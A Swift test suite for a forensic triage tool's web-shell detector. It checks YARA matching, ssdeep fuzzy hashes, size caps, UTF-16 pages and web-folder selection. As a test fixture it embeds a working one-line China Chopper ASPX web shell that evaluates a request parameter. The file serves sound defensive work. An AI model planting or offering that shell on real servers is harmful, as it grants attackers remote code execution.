@testable import Detection
import EvidenceBundle
import ExTriageCore
import Foundation
import Testing
import TestSupport

/// The content check as the analyzer drives it: members stream in chunks, are held up to the
/// cap by the runner, scanned on workers, and reported once per file.
@Suite struct WebShellContentCheckTests {
    static let chopper = Array("<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"k\"],\"unsafe\");%>\n".utf8)

    static func check(cap: Int) throws -> WebShellContentCheck {
        let base = try TestData.detection().webShells
        #expect(base.rules != nil, "the built-in YARA rules compile")
        return WebShellContentCheck(options: WebShellScanOptions(rules: base.rules, locations: base.locations, sizeCap: cap,
                                                                 timeoutSeconds: 10, workers: 2))
    }

    static func row(_ result: CheckRunner.Result) -> CoverageRow? { result.coverage.first { $0.checkId == "EXT-C10" } }

    @Test func aShellInAWebFolderIsFoundWithItsEvidence() throws {
        let path = "inetpub/wwwroot/aspnet_client/a.aspx"
        let harness = CheckHarness(binaryMembers: [(path, Self.chopper), ("inetpub/wwwroot/logs/notes.bin", Self.chopper)])
        let result = harness.result([try Self.check(cap: 1 << 20)])
        let finding = try #require(result.findings.first)
        #expect(result.findings.count == 1)
        #expect(finding.verdict == .confirmed)
        #expect(finding.checkId == "EXT-C10")
        let details = try #require(finding.evidence.first?.details)
        #expect(details["rules"]?.contains("ChinaChopper_Eval_Request (confirmed)") == true)
        #expect(details["matchedStrings"]?.contains("eval(Request.Item[\"k\"],\"unsafe\"") == true, "\(details["matchedStrings"] ?? "")")
        #expect(details["location"]?.contains("aspnet_client") == true)
        #expect(finding.pivots[.shellPath] == ["/aspnet_client/a.aspx"])
        #expect(Self.row(result)?.members == 1)
    }

    /// A shell a rule matched carries the ssdeep hash of its content; an edited copy of it hashes
    /// close to it, and a shell too short to hash meaningfully carries none.
    @Test func aMatchedShellCarriesItsFuzzyHash() throws {
        let page = Self.chopper + Array(FuzzyHashTests.filler(lines: 60, seed: 1).utf8)
        var edited = page
        edited.replaceSubrange(900..<940, with: Array("// changed by the second drop, 2021-03-03".utf8))
        let harness = CheckHarness(binaryMembers: [("inetpub/wwwroot/aspnet_client/a.aspx", page),
                                                   ("inetpub/wwwroot/aspnet_client/b.aspx", edited),
                                                   ("inetpub/wwwroot/aspnet_client/short.aspx", Self.chopper)])
        let result = harness.result([try Self.check(cap: 1 << 20)])
        func fuzzy(_ name: String) -> [String]? {
            result.findings.first { $0.evidence.first?.originalPath.hasSuffix(name) == true }?.pivots[.shellFuzzy]
        }
        let first = try #require(fuzzy("/a.aspx")?.first)
        let second = try #require(fuzzy("/b.aspx")?.first)
        #expect(first == FuzzyHash.ssdeep(page))
        #expect(first != second)
        #expect((FuzzyHash.similarity(first, second) ?? 0) >= 50)
        #expect(fuzzy("/short.aspx") == nil)
    }

    /// A 200 MB member is never held whole: the first `cap` bytes are scanned, the rest only
    /// counted, and the file is reported as scanned partially. Chunks are made on the fly.
    @Test func aHugeMemberIsScannedWithinTheCap() throws {
        let cap = 1 << 20
        let chunk = [UInt8](repeating: 0x41, count: 1 << 20)
        let total = 200
        let head = Self.chopper + [UInt8](repeating: 0x20, count: chunk.count - Self.chopper.count)
        // A shell placed only after the cap is not seen, and the report says the file was cut.
        let result = CheckHarness().result([try Self.check(cap: cap)], chunked: [
            ("inetpub/wwwroot/big.aspx", AnySequence((0..<total).lazy.map { $0 == 0 ? head : chunk })),
            ("inetpub/wwwroot/tail.aspx", AnySequence((0..<8).lazy.map { $0 == 7 ? Self.chopper : chunk })),
        ])
        #expect(result.findings.count == 1)
        let big = try #require(result.findings.first { $0.evidence.first?.originalPath == "inetpub/wwwroot/big.aspx" })
        #expect(big.pivots[.yaraRule]?.contains("ChinaChopper_Eval_Request") == true)
        #expect(big.evidence.first?.details?["scan"] == "scanned partially: first \(cap) of \(total << 20) bytes")
        #expect(Self.row(result)?.reason?.contains("2 scanned partially") == true)
    }

    /// A file the collector cut at its size cap is scanned over the stored head, and both the
    /// finding and the coverage row say so.
    @Test func aMemberCollectedInPartIsSaidToBe() throws {
        let path = "inetpub/wwwroot/aspnet_client/big.aspx"
        let runner = CheckRunner(checks: [try Self.check(cap: 1 << 20)])
        #expect(runner.begin(member: "evidence/C/" + path))
        Self.chopper.withUnsafeBytes { runner.consume($0) }
        runner.end()
        var entry = WebShellLocationTests.entry(path, size: 50 << 20)
        entry.status = .partial
        let result = runner.finish(manifest: WebShellLocationTests.manifest([entry]))
        let finding = try #require(result.findings.first)
        #expect(finding.evidence.first?.details?["scan"]?.hasSuffix("the bundle holds only the file's head (collection size cap)") == true)
        #expect(Self.row(result)?.reason?.contains("1 collected only in part (head stored), scanned over what was stored: \(path)") == true)
    }

    /// UTF-16 pages, little- and big-endian, with and without a byte-order mark, are found by the
    /// rules' `wide` strings (big-endian text is the little-endian byte stream shifted by one).
    @Test func utf16PagesAreFoundInEitherByteOrder() throws {
        let text = String(decoding: Self.chopper, as: UTF8.self)
        let little: [UInt8] = text.utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }
        let big: [UInt8] = text.utf16.flatMap { [UInt8($0 >> 8), UInt8($0 & 0xFF)] }
        let pages = ["le-bom.aspx": [0xFF, 0xFE] + little, "le.aspx": little, "be-bom.aspx": [0xFE, 0xFF] + big]
        let harness = CheckHarness(binaryMembers: pages.map { ("inetpub/wwwroot/app/" + $0.key, $0.value) })
        let findings = harness.run([try Self.check(cap: 1 << 20)])
        for name in pages.keys {
            let finding = findings.first { $0.evidence.first?.originalPath == "inetpub/wwwroot/app/" + name }
            #expect(finding?.pivots[.yaraRule]?.contains("ChinaChopper_Eval_Request") == true, "\(name)")
        }
    }

    @Test func withoutRulesNothingIsScannedAndCoverageSaysWhy() throws {
        let options = WebShellScanOptions(rules: nil, rulesProblem: "rules missing", locations: try TestData.detection().webShells.locations)
        let result = CheckHarness(binaryMembers: [("inetpub/wwwroot/a.aspx", Self.chopper)]).result([WebShellContentCheck(options: options)])
        let row = Self.row(result)
        #expect(row?.status == .failed)
        #expect(row?.reason == "not scanned: rules missing; 1 web file(s) not scanned")
        #expect(result.findings.isEmpty)
    }

    @Test func webFilesAreSelectedByPlaceAndKind() throws {
        let selection = WebFileSelection(try TestData.detection().webShells.locations)
        func wants(_ path: String) -> Bool { selection.wants(MemberInfo(member: "evidence/C/" + path, volume: "C", sourcePath: path)) }
        #expect(wants("inetpub/wwwroot/aspnet_client/system_web/x.aspx"))
        #expect(wants("inetpub/wwwroot/aspnet_client/readme.bin"))
        #expect(wants("Exchange/V15/FrontEnd/HttpProxy/owa/auth/Current/scripts/a.js"))
        #expect(wants("Program Files/Microsoft/Exchange Server/V15/ClientAccess/ecp/default.aspx"))
        #expect(wants("Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/root/1/2/App_Web_ab12cd34.dll"))
        #expect(wants("Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/owa/1/2/logon.aspx.cdcab7d2.compiled"))
        #expect(!wants("Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/owa/1/2/assembly/dl3/9/Microsoft.Exchange.dll"))
        #expect(!wants("Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Owa/HttpProxy_2021030305-1.LOG"))
        #expect(!wants("Windows/Temp/x.aspx"))
    }
}
